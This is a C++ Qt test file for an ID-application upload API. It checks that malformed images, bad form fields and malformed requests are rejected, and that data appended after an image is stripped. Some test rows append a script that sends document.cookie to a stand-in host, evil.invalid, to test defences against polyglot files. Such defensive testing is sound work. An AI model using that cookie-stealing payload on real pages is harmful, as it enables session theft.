#include "tests/support/ImageFiles.h"

#include "ApplicantFixture.h"

#include <QDir>
#include <QFile>
#include <QJsonObject>
#include <QTest>

using namespace mado;

// POST /api/v1/applications refuses what is not a well-formed application (images, fields, the
// request's shape) with the documented status, naming the field, and stores nothing.
class TestApplicationValidation : public QObject, public ApplicantFixture {
    Q_OBJECT

private Q_SLOTS:
    void init() { start(); }
    void cleanup() { stop(); }
    void badImageIsRefusedAndNothingStored_data();
    void badImageIsRefusedAndNothingStored();
    void badFieldIs400NamingIt_data();
    void badFieldIs400NamingIt();
    void requestShape_data();
    void requestShape();
    void declaredOversizeIsRefusedBeforeReading();
    void dataAfterTheImageIsDropped_data();
    void dataAfterTheImageIsDropped();
};

void TestApplicationValidation::badImageIsRefusedAndNothingStored_data()
{
    QTest::addColumn<QString>("part");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("status");
    const QByteArray jpeg = ApplicantTestKit::smallJpeg();
    const QByteArray png = ApplicantTestKit::smallPng();
    const QByteArray script = "<script>fetch('https://evil.invalid/'+document.cookie)</script>";
    QTest::addRow("JPEG truncated") << "frame2" << jpeg.left(jpeg.size() / 2) << 422;
    QTest::addRow("JPEG without its last byte") << "document_front" << jpeg.chopped(1) << 422;
    QTest::addRow("PNG claiming 60000x60000") << "frame1" << test::pngHeaderClaiming(60000, 60000) << 422;
    QTest::addRow("PNG truncated") << "frame1" << png.left(png.size() - 20) << 422;
    QTest::addRow("text, not an image") << "frame0" << QByteArray("hello, this is not an image") << 415;
    QTest::addRow("GIF") << "document_front" << QByteArray("GIF89a\x01\x00\x01\x00\x00\x00\x00;", 14) << 415;
    QTest::addRow("empty part") << "frame0" << QByteArray("") << 422;
    QTest::addRow("image over the byte limit") << "document_front" << jpeg + QByteArray(600 * 1024, 'x') << 422;
}

void TestApplicationValidation::badImageIsRefusedAndNothingStored()
{
    QFETCH(QString, part);
    QFETCH(QByteArray, bytes);
    QFETCH(int, status);
    const QString nonce = newNonce();
    auto images = ApplicantTestKit::images();
    images[part] = bytes.isNull() ? QByteArray("") : bytes;
    const auto reply =
        submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), images), token(), "key-image-001");
    QCOMPARE(reply.status, status);
    QCOMPARE(errorField(reply), part);
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QCOMPARE(count("SELECT count(*) FROM challenges WHERE used_at IS NOT NULL"), 0);
    QVERIFY(imageDirectories().isEmpty());
    // The same challenge still works with good images.
    QCOMPARE(submit(ApplicantTestKit::body(ApplicantTestKit::fields(nonce), ApplicantTestKit::images()), token(),
                    "key-image-002")
                 .status,
             201);
}

void TestApplicationValidation::dataAfterTheImageIsDropped_data()
{
    // Phones append data after a JPEG's end marker (Android's Ultra HDR gain map is a second JPEG,
    // a Motion Photo a video); attackers a script (a polyglot). The application is accepted and
    // the stored file is the image alone.
    QTest::addColumn<QString>("part");
    QTest::addColumn<QByteArray>("image");
    QTest::addColumn<QByteArray>("trailer");
    const QByteArray jpeg = ApplicantTestKit::smallJpeg();
    const QByteArray png = ApplicantTestKit::smallPng();
    const QByteArray script = "<script>fetch('https://evil.invalid/'+document.cookie)</script>";
    QTest::addRow("JPEG with a script appended") << "frame3" << jpeg << script;
    QTest::addRow("JPEG with script and a fake end marker") << "frame3" << jpeg << script + "\xFF\xD9";
    QTest::addRow("JPEG with a second JPEG (gain map) appended") << "document_front" << jpeg << jpeg;
    QTest::addRow("PNG with a script after IEND") << "frame1" << png << script;
}

void TestApplicationValidation::dataAfterTheImageIsDropped()
{
    QFETCH(QString, part);
    QFETCH(QByteArray, image);
    QFETCH(QByteArray, trailer);
    auto images = ApplicantTestKit::images();
    images[part] = image + trailer;
    const auto reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(newNonce()), images), token(),
                              "key-trailer-001");
    QCOMPARE(reply.status, 201);
    const QStringList directories = imageDirectories();
    QCOMPARE(directories.size(), 1);
    const QDir directory(QDir(spoolFilesDirectory()).filePath(directories.front()));
    const QStringList stored = directory.entryList({part + QStringLiteral(".*")}, QDir::Files);
    QCOMPARE(stored.size(), 1);
    QFile file(directory.filePath(stored.front()));
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), image);
}

void TestApplicationValidation::badFieldIs400NamingIt_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("expectedField");
    QTest::addRow("kana in hiragana") << "kana"
                                      << "みほん はなこ"
                                      << "kana";
    QTest::addRow("postal code without hyphen") << "postalCode"
                                                << "1000001"
                                                << "postalCode";
    QTest::addRow("date of birth not a date") << "dateOfBirth"
                                              << "1985-02-30"
                                              << "dateOfBirth";
    QTest::addRow("date of birth in the future") << "dateOfBirth"
                                                 << "2999-01-01"
                                                 << "dateOfBirth";
    QTest::addRow("copies 11") << "copies"
                               << "11"
                               << "copies";
    QTest::addRow("copies not a number") << "copies"
                                         << "two"
                                         << "copies";
    QTest::addRow("phone with letters") << "phone"
                                        << "03-CALL-ME"
                                        << "phone";
    QTest::addRow("email without @") << "email"
                                     << "hanako.example.jp"
                                     << "email";
    QTest::addRow("unknown document type") << "documentType"
                                           << "passport_card"
                                           << "documentType";
    QTest::addRow("procedure with capitals") << "procedure"
                                             << "Juminhyo"
                                             << "procedure";
    QTest::addRow("name missing") << "name" << QString() << "name";
    QTest::addRow("unknown field") << "nickname"
                                   << "hana"
                                   << "nickname";
    QTest::addRow("capture times going back") << "frame2_capturedAt"
                                              << "2000-01-01T00:00:00Z"
                                              << "frame2_capturedAt";
}

void TestApplicationValidation::badFieldIs400NamingIt()
{
    QFETCH(QString, field);
    QFETCH(QString, value);
    QFETCH(QString, expectedField);
    const QString nonce = newNonce();
    auto fields = ApplicantTestKit::fields(nonce);
    fields[field] = value;
    const auto reply = submit(ApplicantTestKit::body(fields, ApplicantTestKit::images()), token(), "key-field-001");
    QCOMPARE(reply.status, 400);
    QCOMPARE(errorField(reply), expectedField);
    // The answer names the problem but does not echo the value (it may be personal data).
    if (!value.isEmpty())
        QVERIFY(!reply.body.contains(value.toUtf8()));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QVERIFY(imageDirectories().isEmpty());
}

void TestApplicationValidation::requestShape_data()
{
    QTest::addColumn<QString>("what");
    QTest::addColumn<int>("status");
    QTest::addRow("body over the limit, chunked") << "oversize" << 413;
    QTest::addRow("JSON instead of multipart") << "json" << 415;
    QTest::addRow("no Idempotency-Key") << "nokey" << 400;
    QTest::addRow("frame3 missing") << "noframe" << 400;
    QTest::addRow("image sent as a text field") << "textimage" << 400;
    QTest::addRow("frame1 twice") << "twice" << 400;
    QTest::addRow("a text field over 1 KiB") << "longfield" << 400;
}

void TestApplicationValidation::requestShape()
{
    QFETCH(QString, what);
    QFETCH(int, status);
    const QString nonce = newNonce();
    auto fields = ApplicantTestKit::fields(nonce);
    auto images = ApplicantTestKit::images();
    std::string key = "key-shape-0001";
    if (what == QLatin1String("oversize"))
        images[QStringLiteral("document_tilted")] = QByteArray(kBodyLimit, 'x');
    if (what == QLatin1String("nokey"))
        key.clear();
    if (what == QLatin1String("longfield"))
        fields[QStringLiteral("line")] = QString(1025, QLatin1Char('a'));
    if (what == QLatin1String("noframe"))
        images.remove(QStringLiteral("frame3"));
    if (what == QLatin1String("textimage")) {
        images.remove(QStringLiteral("frame3"));
        fields[QStringLiteral("frame3")] = QStringLiteral("/9j/4AAQ");
    }
    MultipartBody body = ApplicantTestKit::body(fields, images);
    if (what == QLatin1String("twice"))
        body.addFile(QStringLiteral("frame1"), ApplicantTestKit::smallJpeg());
    HttpTestClient::Reply reply;
    if (what == QLatin1String("json")) {
        reply = HttpTestClient::request(m_server->port(), "POST", "/api/v1/applications", "{}",
                                        {{"Content-Type", "application/json"},
                                         {"Authorization", "Bearer " + token().toStdString()},
                                         {"Idempotency-Key", key}});
    } else if (what == QLatin1String("oversize")) {
        reply = HttpTestClient::requestChunked(m_server->port(), "POST", "/api/v1/applications", body.bytes(),
                                               {{"Content-Type", body.contentType()},
                                                {"Authorization", "Bearer " + token().toStdString()},
                                                {"Idempotency-Key", key}});
    } else {
        reply = submit(body, token(), key);
    }
    QCOMPARE(reply.status, status);
    QVERIFY(json(reply).value(QStringLiteral("error")).toObject().contains(QStringLiteral("message")));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
    QVERIFY(imageDirectories().isEmpty());
}

void TestApplicationValidation::declaredOversizeIsRefusedBeforeReading()
{
    // Only the head is sent: the 413 comes without the receiver waiting for (or reading) the body.
    const QByteArray head = "POST /api/v1/applications HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                            "Content-Type: multipart/form-data; boundary=x\r\nIdempotency-Key: key-big-00001\r\n"
                            "Authorization: Bearer " +
                            token().toUtf8() + "\r\nContent-Length: " + QByteArray::number(kBodyLimit + 1) + "\r\n\r\n";
    const auto reply = HttpTestClient::sendPartial(m_server->port(), head);
    QCOMPARE(reply.status, 413);
    QCOMPARE(json(reply).value(QStringLiteral("error")).toObject().value(QStringLiteral("code")).toString(),
             QStringLiteral("body_too_large"));
    QCOMPARE(count("SELECT count(*) FROM applications"), 0);
}

QTEST_GUILESS_MAIN(TestApplicationValidation)
#include "TestApplicationValidation.moc"
